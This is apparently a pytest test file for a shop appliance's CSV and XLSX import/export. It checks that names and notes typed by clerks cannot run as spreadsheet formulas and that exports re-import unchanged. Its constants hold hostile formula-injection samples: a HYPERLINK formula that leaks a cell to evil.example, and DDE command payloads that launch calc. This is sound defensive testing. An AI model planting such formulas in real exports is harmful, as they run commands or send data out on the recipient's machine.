"""A name a clerk typed must never run as a formula in the owner's spreadsheet program (OWASP "CSV
injection"): XLSX exports store such text as text cells, CSV exports write it after a single quote,
and the import takes exactly that quote off again, so an export still re-imports unchanged."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from appliance import import_export
from appliance.import_export import files
from appliance.inventory import create_location, create_product, receive
from appliance.models import Product
from appliance.orders import LineRequest, create_order, transition

from .shop import ACTOR, assert_consistent, business_data, every_row, fresh_box, stock_a_shop

KINDS_IN_IMPORT_ORDER = ("products", "stock", "orders")
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
QUOTED = "'Tis the season"            # really starts with a quote: must come back with it
TWO_QUOTES = "''"
SEMICOLON = "Tea;=cmd|' /C calc'!A0"  # a new cell where `;` separates cells
# text -> the export kinds it appears in
HOSTILE = {HYPERLINK: ("orders",), DDE: ("products", "stock"), PLUS: ("orders",), MINUS: ("orders",),
           AT: ("orders",), QUOTED: ("products", "stock"), TWO_QUOTES: ("products", "stock", "orders")}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_shop(settings) -> None:
    """The usual shop, plus products and an order whose texts a spreadsheet would run."""
    stock_a_shop(settings)
    create_product({"sku": "CALC", "name": DDE, "price_cents": 100}, ACTOR)
    create_product({"sku": "SEASON", "name": QUOTED, "price_cents": 200, "barcode": "'0042"}, ACTOR)
    create_product({"sku": "QQ", "name": TWO_QUOTES, "price_cents": 300}, ACTOR)
    create_product({"sku": "SEMI", "name": SEMICOLON, "price_cents": 400}, ACTOR)
    receive("CALC", 5, ACTOR)
    order, _ = create_order(settings, channel="phone", actor=ACTOR, note=MINUS,
                            lines=[LineRequest("CALC", 1)],
                            customer={"name": HYPERLINK, "email": "mallory@evil.example"})
    transition(order.number, "ship", ACTOR, carrier=AT, tracking_number=PLUS)
    create_order(settings, channel="store", actor=ACTOR, note=TWO_QUOTES, lines=[LineRequest("SOFA", 1)])


def sheet_cells(data: bytes) -> list:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def csv_cells(data: bytes, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter)
            for cell in row]


@pytest.mark.parametrize("kind", KINDS_IN_IMPORT_ORDER)
def test_formula_text_is_a_text_cell_in_every_xlsx_export(kind, settings, db):
    hostile_shop(settings)

    data = import_export.export(kind, "xlsx")

    cells = sheet_cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for text, kinds in HOSTILE.items():
        if kind in kinds:
            assert text in texts, f"{text!r} is missing from the {kind} export"
            assert texts[text].data_type == "s"
            if text[0] in FORMULA_STARTS:
                assert texts[text].quotePrefix  # stays text when edited in a spreadsheet program


@pytest.mark.parametrize("kind", KINDS_IN_IMPORT_ORDER)
def test_formula_text_is_written_after_a_quote_in_every_csv_export(kind, settings, db):
    hostile_shop(settings)

    data = import_export.export(kind, "csv")

    cells = csv_cells(data)
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    for text, kinds in HOSTILE.items():
        if kind in kinds:
            assert "'" + text in cells, f"{text!r} is not quoted in the {kind} export"
    if kind in ("products", "stock"):
        # A cell with `;` is quoted, so a program that splits on `;` (and honours quotes) keeps it whole.
        assert f'"{SEMICOLON}"'.encode() in data


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is():
    xlsx = files.write_xlsx(["qty", "price", "name"], [[-5, files.Money(350), "Mug, 300 ml"]])
    text = files.write_csv(["qty", "price", "name"], [[-5, files.Money(350), "Mug, 300 ml"]], byte_order_mark=False)

    qty, price, name = sheet_cells(xlsx)[3:]
    assert (qty.value, qty.data_type) == (-5, "n")
    assert (price.value, price.data_type) == (3.5, "n")
    assert (name.value, name.data_type, name.quotePrefix) == ("Mug, 300 ml", "s", False)
    assert text.decode().splitlines() == ["qty,price,name", '-5,3.50,"Mug, 300 ml"']


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_with_formula_text_imported_into_a_fresh_box_gives_the_same_business_data(fmt, settings, db, tmp_path):
    hostile_shop(settings)
    before = business_data()
    exported = {kind: import_export.export(kind, fmt) for kind in KINDS_IN_IMPORT_ORDER}

    with fresh_box(tmp_path, back_to=settings) as fresh:
        create_location("back", "Back room", 20, ACTOR)
        for kind in KINDS_IN_IMPORT_ORDER:
            report = import_export.apply(kind, exported[kind], f"{kind}.{fmt}", actor=ACTOR, settings=fresh)
            assert report.ok, report.errors
        after = business_data()
        names = {p.sku: p.name for p in Product.select()}
        assert_consistent()

    assert after == before
    assert (names["CALC"], names["SEASON"], names["QQ"]) == (DDE, QUOTED, TWO_QUOTES)
    assert HYPERLINK in [o["customer"]["name"] for o in after["orders"] if o["customer"]]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_with_formula_text_imported_into_the_same_box_changes_nothing(fmt, settings, db):
    hostile_shop(settings)
    before = every_row()

    for kind in KINDS_IN_IMPORT_ORDER:
        report = import_export.apply(kind, import_export.export(kind, fmt), f"{kind}.{fmt}", actor=ACTOR,
                                     settings=settings)
        assert report.ok, report.errors
        assert not report.written, f"the {kind} import changed {report.counts}"

    assert every_row() == before


def test_a_csv_import_takes_off_only_the_quote_an_export_puts_in(settings, db):
    typed = ("sku,name,price,barcode\n"
             "A1,'Tis the season,1\n"        # a supplier's own quote: kept
             "A2,'=1+2,1\n"                  # an export's quote before a formula start: taken off
             "A3,''Tis,1,'\n"                # an export's quote before a quote: one taken off; a lone quote kept
             "A4,'-5,1,'+0042\n")

    report = import_export.apply("products", typed.encode(), "products.csv", actor=ACTOR, settings=settings)

    assert report.ok, report.errors
    assert {p.sku: (p.name, p.barcode) for p in Product.select()} == {
        "A1": ("'Tis the season", None), "A2": ("=1+2", None), "A3": ("'Tis", "'"), "A4": ("-5", "+0042")}
